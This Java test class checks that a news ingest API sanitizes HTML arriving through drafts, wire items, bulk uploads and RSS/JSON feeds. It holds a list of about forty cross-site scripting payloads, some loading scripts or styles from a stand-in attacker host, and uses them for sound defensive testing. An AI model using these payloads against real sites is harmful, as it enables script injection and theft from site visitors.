package dateline.ingest;

import static dateline.Newsroom.as;
import static dateline.Newsroom.get;
import static dateline.Newsroom.post;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dateline.JsonBody;
import dateline.Newsroom;
import dateline.database.server.TestDatabase;
import dateline.database.sql.Sql;
import io.agroal.api.AgroalDataSource;
import io.quarkus.test.common.TestResourceScope;
import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** Markup that runs scripts in a browser, sent through every input, never reaches storage. */
@QuarkusTest
@WithTestResource(value = TestDatabase.class, scope = TestResourceScope.GLOBAL)
class HostileMarkupTest {

    // Vectors by kind: elements, event handlers, URL schemes, broken nesting, foreign content, comments, encodings.
    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"https://a.example/p.png\" onload=\"alert(1)\">",
            "<img src=`javascript:alert(1)`>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<em onclick=alert(1)>x</em>",
            "<em style=\"background:url(javascript:alert(1))\">x</em>",
            "<p onmouseover=\"alert(1)\">x</p>",
            "<svg onload=alert(1)>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<form action=\"https://evil.example\"><input name=q><button>x</button></form>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "<link rel=stylesheet href=\"https://evil.example/x.css\">",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<details open ontoggle=alert(1)>x</details>",
            "<video><source onerror=\"alert(1)\"></video>",
            "<video src=\"https://a.example/v.mp4\" onloadstart=alert(1)></video>",
            "<template><script>alert(1)</script></template>",
            "<!--><img src=x onerror=alert(1)>-->",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<em>a<strong>b</em onclick=alert(1)>c</strong>",
            "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
            "<a href=\"https://a.example/\" onfocus=alert(1) autofocus>x</a>",
            "<a href=\"https://a.example/?q=&quot;><script>alert(1)</script>\">x</a>",
            "<table><caption onclick=alert(1)>c</caption><tr><td background=\"javascript:alert(1)\">x</td></tr></table>");

    private static final Set<String> INLINE = Set.of("a", "em", "strong", "sub", "sup", "br");
    private static final Set<String> BODY = Set.of(
            "a",
            "em",
            "strong",
            "sub",
            "sup",
            "br",
            "p",
            "h2",
            "h3",
            "ul",
            "ol",
            "li",
            "blockquote",
            "footer",
            "cite",
            "figure",
            "figcaption",
            "img",
            "audio",
            "video",
            "table",
            "caption",
            "thead",
            "tbody",
            "tr",
            "th",
            "td");
    private static final ObjectMapper JSON = new ObjectMapper();

    @Inject
    Newsroom newsroom;

    @Inject
    AgroalDataSource database;

    private String editorKey;
    private String source;

    @BeforeEach
    void createKey() {
        editorKey = newsroom.key("articles:write", "articles:read");
        source = Newsroom.unique("hostile");
    }

    private ObjectNode story(int number) {
        return JSON.createObjectNode().put("headline", "Story " + number).put("source", source);
    }

    private ObjectNode withBlock(int number) {
        ObjectNode story = story(number);
        story.putArray("body").addObject().put("type", "paragraph").put("html", "w " + HOSTILE.get(number));
        return story;
    }

    private ObjectNode withHtml(int number) {
        return story(number).put("bodyHtml", "<p>w " + HOSTILE.get(number) + "</p>");
    }

    @Test
    void aBlockOfADraftIsStoredSanitized() {
        for (int i = 0; i < HOSTILE.size(); i++)
            assertHandled(post(editorKey, "/v1/articles", withBlock(i).toString()), i);
        assertStoredTextsAreHarmless();
    }

    @Test
    void theHtmlOfADraftIsStoredSanitized() {
        for (int i = 0; i < HOSTILE.size(); i++)
            assertHandled(post(editorKey, "/v1/articles", withHtml(i).toString()), i);
        assertStoredTextsAreHarmless();
    }

    @Test
    void aWireItemIsStoredSanitized() {
        for (int i = 0; i < HOSTILE.size(); i++) {
            ObjectNode item = i % 2 == 0 ? withBlock(i) : withHtml(i);
            item.remove("source");
            assertHandled(
                    as(editorKey)
                            .contentType("application/json")
                            .body(item.put("sourceVersion", "1").toString())
                            .put("/v1/articles/by-source/" + source + "/item-" + i),
                    i);
        }
        assertStoredTextsAreHarmless();
    }

    @Test
    void aBulkLineIsStoredSanitized() {
        List<String> lines = new ArrayList<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            ObjectNode article = (i % 2 == 0 ? withBlock(i) : withHtml(i)).put("sourceId", "line-" + i);
            lines.add(JSON.createObjectNode()
                    .put("state", "draft")
                    .set("article", article)
                    .toString());
        }
        Response answer = as(editorKey)
                .contentType("application/x-ndjson")
                .body(String.join("\n", lines).getBytes(StandardCharsets.UTF_8))
                .post("/v1/articles/bulk");
        assertTrue(answer.statusCode() < 300, answer.asString());
        assertStoredTextsAreHarmless();
    }

    @Test
    void anImportedFeedIsStoredSanitized() throws Exception {
        StringBuilder rss = new StringBuilder(
                "<rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>t</title>");
        for (int i = 0; i < HOSTILE.size(); i++)
            rss.append("<item><guid>rss-%d</guid><title>Story %d</title><content:encoded>%s</content:encoded></item>"
                    .formatted(i, i, escaped("<p>w " + HOSTILE.get(i) + "</p>")));
        importDocument(rss.append("</channel></rss>").toString());
        ObjectNode feed = JSON.createObjectNode()
                .put("version", "https://jsonfeed.org/version/1.1")
                .put("title", "t");
        var items = feed.putArray("items");
        for (int i = 0; i < HOSTILE.size(); i++)
            items.addObject()
                    .put("id", "json-" + i)
                    .put("title", "Story " + i)
                    .put("content_html", "<p>w " + HOSTILE.get(i) + "</p>");
        importDocument(feed.toString());
        assertStoredTextsAreHarmless();
    }

    private static String escaped(String html) {
        return html.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    }

    private void importDocument(String document) throws InterruptedException {
        String id = post(
                        editorKey,
                        "/v1/imports",
                        JsonBody.with("source", source).json())
                .path("id");
        as(editorKey)
                .contentType("application/octet-stream")
                .body(document.getBytes(StandardCharsets.UTF_8))
                .put("/v1/imports/" + id + "/document")
                .then()
                .statusCode(202);
        for (int i = 0; i < 600; i++) {
            Response job = get(editorKey, "/v1/imports/" + id);
            if (Set.of("done", "failed").contains(job.<String>path("state"))) {
                assertEquals("done", job.path("state"), job.asString());
                return;
            }
            Thread.sleep(30);
        }
        throw new AssertionError("The import did not end.");
    }

    // A story without any text after sanitizing is refused with 422. No input may cause a 5xx.
    private static void assertHandled(Response answer, int number) {
        assertTrue(Set.of(200, 201, 422).contains(answer.statusCode()), HOSTILE.get(number) + " " + answer.asString());
    }

    private void assertStoredTextsAreHarmless() {
        List<String> stored = Sql.of(
                        "select draft_content(d) from draft d where draft_content(d) ->> 'source' = :source")
                .with("source", source)
                .add("union all select v.content from version v where v.content ->> 'source' = :source")
                .with("source", source)
                .list(database, row -> row.getString(1));
        assertTrue(stored.size() >= HOSTILE.size() / 2, "only " + stored.size() + " were stored");
        for (String content : stored) assertHarmless(content);
    }

    private static void assertHarmless(String content) {
        try {
            JsonNode story = JSON.readTree(content);
            for (JsonNode html : story.findValues("html")) assertHarmless(html.asText(), INLINE);
            for (JsonNode html : story.findValues("bodyHtml")) assertHarmless(html.asText(), BODY);
            for (JsonNode url : story.findValues("url"))
                assertTrue(url.asText().matches("https?://.*"), "a URL that is not http: " + url);
        } catch (java.io.IOException e) {
            throw new AssertionError(content, e);
        }
    }

    private static void assertHarmless(String html, Set<String> elements) {
        for (Element element : Jsoup.parseBodyFragment(html).body().getAllElements()) {
            if (element.normalName().equals("body")) continue;
            assertTrue(elements.contains(element.normalName()), html);
            for (Attribute attribute : element.attributes()) {
                assertTrue(!attribute.getKey().toLowerCase(Locale.ROOT).startsWith("on"), html);
                assertTrue(!attribute.getKey().equals("style"), html);
                if (Set.of("href", "src").contains(attribute.getKey()))
                    assertTrue(attribute.getValue().matches("(?s)(https?|mailto|tel):.*"), html);
            }
        }
    }
}
